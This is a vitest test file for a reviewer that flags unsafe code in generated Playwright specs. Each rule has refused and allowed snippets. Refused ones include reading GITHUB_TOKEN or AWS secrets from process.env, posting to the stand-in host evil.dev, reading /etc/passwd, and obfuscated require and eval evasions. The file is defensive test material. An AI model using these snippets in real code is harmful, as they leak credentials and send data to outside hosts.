import { describe, expect, it } from "vitest";
import { SIZE_LIMITS } from "../../src/safety/limits.ts";
import { reviewGeneratedFiles } from "../../src/safety/review.ts";
import { CONTEXT, HARMLESS_SPEC, inTest, rulesForCode } from "./support.ts";

const atTop = (line: string) => `${line}\n${inTest("")}`;

/** Each rule with code that breaks it, and code that only looks like it. */
const RULES: Record<string, { refused: string[]; allowed: string[] }> = {
  "module-forbidden": {
    refused: [
      atTop('import { exec } from "child_process";'),
      atTop('import { exec } from "node:child_process";'),
      atTop('import "node:net";'),
      atTop('import http from "http";'),
      atTop('import * as https from "https";'),
      atTop('import dns from "node:dns/promises";'),
      atTop('import { Worker as W } from "worker_threads";'),
      atTop('import vm from "vm";'),
      atTop('import { createRequire } from "node:module";'),
      atTop('import { env } from "node:process";'),
      atTop('import cp = require("child_process");'),
      atTop('export * from "node:cluster";'),
      atTop('export { exec } from "child_process";'),
      atTop('import axios from "axios";'),
      atTop('import ws from "ws";'),
      atTop('import x from "https://evil.dev/x.js";'),
      atTop('import x from "data:text/javascript,1";'),
      atTop('import x from "/etc/x.js";'),
      inTest('await import("node:child_process");'),
      inTest("await import(`child_process`);"),
      inTest('await import("child_" + "process");'),
      inTest("await import(name);"),
      inTest("await import(`${name}`);"),
      inTest('require("child_process");'),
      inTest('require("child_" + "process");'),
      inTest("require(name);"),
      inTest("const load = require; load('x');"),
      inTest('module.require("child_process");'),
      inTest('(function () { return this; })().process.getBuiltinModule("child_process");'),
      inTest('something["mainModule"];'),
      atTop("import all = process.env;"),
      inTest('require.resolve("x");'),
    ],
    allowed: [
      atTop('import path from "node:path";'),
      atTop('import { readFileSync } from "node:fs";'),
      atTop('import { LoginPage } from "./pages/login.page";'),
      atTop('import { helper } from "../support/child_process";'),
      atTop('import AxeBuilder from "@axe-core/playwright";'),
      inTest('const { helper } = require("./helper");'),
      inTest('// import "child_process" is forbidden'),
      inTest('await page.getByText("require(name)").click();'),
      inTest('await page.getByRole("link", { name: "child_process" }).click();'),
    ],
  },
  "dynamic-code": {
    refused: [
      inTest('eval("1");'),
      inTest("const run = eval; run(x);"),
      inTest('(0, eval)("1");'),
      inTest('new Function("return 1")();'),
      inTest('Function("return 1")();'),
      inTest('[].constructor.constructor("return 1")();'),
      inTest('(async () => {}).constructor("return 1")();'),
      inTest('page["constr" + "uctor"];'),
      inTest("const { constructor: make } = () => {};"),
      inTest('Reflect.get(page, "constructor");'),
      inTest('const key = "constructor"; page[key];'),
      inTest('setTimeout("x()", 1);'),
    ],
    allowed: [
      inTest("await page.evaluate(() => document.title);"),
      inTest('await page.$eval("h1", (node) => node.textContent);'),
      inTest("expect(page.constructor.name);"),
      inTest('await page.getByText("eval(Function)").click();'),
      "class P { constructor(private page: Page) {} }\n",
      "type F = Function;\nconst o = { eval: 1, Function: 2 };\no.eval;\n",
      inTest("await new Promise((resolve) => setTimeout(resolve, 5));"),
    ],
  },
  "process-access": {
    refused: [
      inTest("console.log(process.env);"),
      inTest("console.log(JSON.stringify(process.env));"),
      inTest("const { ...all } = process.env;"),
      inTest("const all = { ...process.env };"),
      inTest("for (const name in process.env) console.log(name);"),
      inTest("process.env[name];"),
      inTest("const p = process; p.env;"),
      inTest("process.exit(0);"),
      inTest('process.binding("fs");'),
      inTest('process.getBuiltinModule("child_process");'),
      inTest('process["en" + "v"];'),
      inTest("globalThis.process.env;"),
      inTest("(function () { return this; })().process.env;"),
      inTest("(globalThis as any).process;"),
      inTest("console.log({ process });"),
      inTest('globalThis["ev" + "al"]("1");'),
      inTest("const g = globalThis;"),
      inTest("global[name];"),
      inTest("process.env.GITHUB_TOKEN;"),
      inTest("process.env.AWS_SECRET_ACCESS_KEY;"),
      inTest("const { ACTIONS_RUNTIME_TOKEN } = process.env;"),
      inTest("Deno.run();"),
      atTop('import { _electron } from "@playwright/test";'),
      inTest('test.use({ launchOptions: { executablePath: "/bin/sh" } });'),
      atTop('import { readFileSync } from "fs";\nreadFileSync("/proc/self/environ");'),
      inTest('await page.getByLabel("File").setInputFiles("/etc/passwd");'),
    ],
    allowed: [
      inTest('await page.getByLabel("Password").fill(process.env.TEST_PASSWORD ?? "");'),
      inTest('process.env["BASE_URL"];'),
      inTest("const { CI, BASE_URL } = process.env;"),
      inTest("process.cwd();"),
      inTest('await page.getByText("process.env").click();'),
      inTest("const row = { process: 1 }; row.process;"),
      inTest('await page.getByLabel("File").setInputFiles("tests/fixtures/a.png");'),
      inTest("await page.evaluate(() => window.localStorage.length);"),
    ],
  },
  "network-access": {
    refused: [
      inTest("await fetch(url);"),
      inTest("await fetch(`${base}/x`);"),
      inTest("const send = fetch; send(x);"),
      inTest('new WebSocket("/socket");'),
      inTest("new XMLHttpRequest();"),
      inTest('new EventSource("/events");'),
      inTest('navigator.sendBeacon("/x");'),
      inTest('new Worker("/x.js");'),
    ],
    allowed: [
      inTest('await fetch("/api/items");'),
      inTest("await fetch(`/api/items/${id}`);"),
      inTest('await fetch("http://localhost:3000/api");'),
      inTest("await fetch(`http://127.0.0.1:${port}/api`);"),
      inTest('await request.get("/api/items");'),
      inTest('page.on("websocket", () => {});'),
      inTest('await page.getByText("fetch(url)").click();'),
    ],
  },
  "external-origin": {
    refused: [
      inTest('await page.goto("https://evil.dev/x");'),
      inTest('await page.goto("http://localhost@evil.dev/");'),
      inTest('await page.goto("http://localhost.evil.dev/");'),
      inTest("await page.goto(`https://evil.dev/?q=${title}`);"),
      inTest("await page.goto(`https://${host}/x`);"),
      inTest('await page.goto("https:" + "//evil.dev");'),
      inTest('await page.goto("//evil.dev/x");'),
      inTest('const target = "https://evil.dev"; await page.goto(target);'),
      inTest('await request.post("https://evil.dev", { data: 1 });'),
      inTest('await page.goto("file:///etc/passwd");'),
      inTest(`await page.setContent('<img src="https://evil.dev/x">');`),
      inTest('await page.addScriptTag({ url: "https://evil.dev/x.js" });'),
      inTest('test.use({ baseURL: "https://evil.dev" });'),
      inTest('await page.evaluate(() => { location.href = "https://evil.dev"; });'),
    ],
    allowed: [
      inTest('await page.goto("http://localhost:3000/login");'),
      inTest("await page.goto(`http://localhost:${port}/login`);"),
      inTest('await page.goto("https://shop.example.com/");'),
      inTest('await page.goto("https://app.test/");'),
      inTest('await expect(page).toHaveURL("https://www.iana.org/about");'),
      inTest(
        'await expect(page.getByRole("link")).toHaveAttribute("href", "https://github.com/a/b");',
      ),
      inTest('await page.getByLabel("Website").fill("https://my-site.dev");'),
      inTest('await page.route("https://api.stripe.com/**", (route) => route.abort());'),
      inTest("await page.locator(\"//div[@id='x']\").click();"),
      inTest('await page.click("//button[text()]");'),
      inTest("await expect(page).toHaveURL(/https:\\/\\/evil/);"),
      inTest("// see https://playwright.dev/docs/locators"),
      'import { test } from "@playwright/test";\ntest("opens https://evil.dev", async () => {});\n',
    ],
  },
  "file-write": {
    refused: [
      atTop('import { writeFileSync } from "node:fs";'),
      atTop('import { rm } from "fs/promises";'),
      atTop('import fs from "fs";\nfs.writeFileSync("x", "y");'),
      atTop('import * as fs from "fs";\nfs["write" + "File"]("x");'),
      atTop('import fs from "fs";\nconst other = fs;'),
      atTop('import fs from "fs";\nrun(fs);'),
      atTop('import fs from "fs";\nfs.promises.unlink("x");'),
      inTest('const fs = require("fs"); fs.rmSync("x");'),
      inTest('const { unlinkSync } = require("fs");'),
      inTest('require("fs").rmSync("x");'),
      inTest('await page.screenshot({ path: "../../out.png" });'),
      inTest('await page.context().storageState({ path: "/tmp/state.json" });'),
    ],
    allowed: [
      atTop('import fs from "fs";\nfs.readFileSync("tests/a.json", "utf8");'),
      atTop('import fs from "fs";\nawait fs.promises.readFile("tests/a.json");'),
      inTest('const fs = require("fs"); fs.existsSync("x");'),
      inTest('const { readFileSync } = require("node:fs");'),
      inTest('await page.screenshot({ path: "test-results/a.png" });'),
      inTest('await page.context().addCookies([{ name: "a", value: "b", path: "/" }]);'),
      inTest('await page.getByText("fs.writeFileSync").click();'),
    ],
  },
  "endless-loop": {
    refused: [
      inTest("while (true) {}"),
      inTest("for (;;) { await page.reload(); }"),
      inTest("do { n += 1; } while (1);"),
    ],
    allowed: [
      inTest("while (true) { if (done) break; }"),
      inTest("for (const row of rows) { await row.click(); }"),
      inTest("while (n < 3) n += 1;"),
    ],
  },
};

describe.each(Object.entries(RULES))("the rule %s", (rule, { refused, allowed }) => {
  it.each(refused)("refuses\n%s", (contents) => {
    expect(rulesForCode(contents)).toContain(rule);
  });

  it.each(allowed)("lets pass\n%s", (contents) => {
    expect(rulesForCode(contents)).toEqual([]);
  });
});

describe("the review of code", () => {
  it("finds nothing in an ordinary spec", () => {
    expect(rulesForCode(HARMLESS_SPEC)).toEqual([]);
  });

  it("names the line", () => {
    const contents = `\n\nconst a = 1;\neval("a");\n`;
    const { unsafe } = reviewGeneratedFiles([{ path: "tests/a.spec.ts", contents }], CONTEXT);

    expect(unsafe).toEqual([
      expect.objectContaining({ rule: "dynamic-code", path: "tests/a.spec.ts", line: 4 }),
    ]);
  });

  it.each([
    ["does not parse", "const = 1;"],
    ["is nested deeper than the parser can go", `${"(".repeat(50_000)}1`],
    ["is nested deeper than a person would write", `f(${"[".repeat(700)}${"]".repeat(700)});`],
    ["is YAML of a workflow", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n"],
  ])("refuses code that %s", (_, contents) => {
    const lines = contents.replaceAll(/(.{1000})/g, "$1\n");
    expect(rulesForCode(lines)).toContain("code-unparsable");
  });

  it("sees an address at the start of a long concatenation", () => {
    const parts = Array.from({ length: 300 }, () => '"x"').join(" +\n");

    expect(rulesForCode(inTest(`await page.goto("https://evil.dev/" +\n${parts});`))).toEqual([
      "external-origin",
    ]);
  });

  it.each([
    ["concatenations", `x(${'"a"+\n'.repeat(450)}"b");\n`],
    ["calls", 'page.goto("/a");\n'],
    ["token prefixes", '"sk-ghp_eyJ eyJ.eyJ AKIA://";\n'],
    ["brackets", `f(${"[".repeat(200)}${"]".repeat(200)});\n`],
    ["loops", "for (;;) { a; }\n"],
  ])("judges the largest file of nothing but %s within seconds", (_, line) => {
    const contents = line.repeat(Math.floor(SIZE_LIMITS.fileBytes / line.length));
    const started = performance.now();

    rulesForCode(contents);

    expect(performance.now() - started).toBeLessThan(10_000);
  });

  it("gives the same findings every time", () => {
    const files = [{ path: "tests/a.spec.ts", contents: inTest("eval(fetch);") }];

    expect(reviewGeneratedFiles(files, CONTEXT)).toEqual(reviewGeneratedFiles(files, CONTEXT));
  });
});
